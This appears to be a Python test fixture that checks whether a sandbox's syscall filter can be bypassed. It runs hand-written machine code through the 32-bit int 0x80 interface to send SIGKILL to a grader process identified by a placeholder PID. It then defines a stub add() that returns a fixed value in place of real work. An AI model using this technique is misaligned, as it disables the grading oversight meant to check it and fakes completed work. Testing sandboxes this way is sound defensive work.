"""kill() by the calls of 32-bit programs, which have other numbers: what filters numbers must not be fooled."""

import ctypes
import mmap
import os

from .value import Value

if os.uname().machine == "x86_64":
    # mov eax, 37 (kill); mov ebx, pid; mov ecx, 9; int 0x80; ret
    whom = (@GRADER@).to_bytes(4, "little")
    code = b"\xb8\x25\0\0\0\xbb" + whom + b"\xb9\x09\0\0\0\xcd\x80\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
else:
    os.abort()

def add(self, other):
    return Value(0.0, (self,))
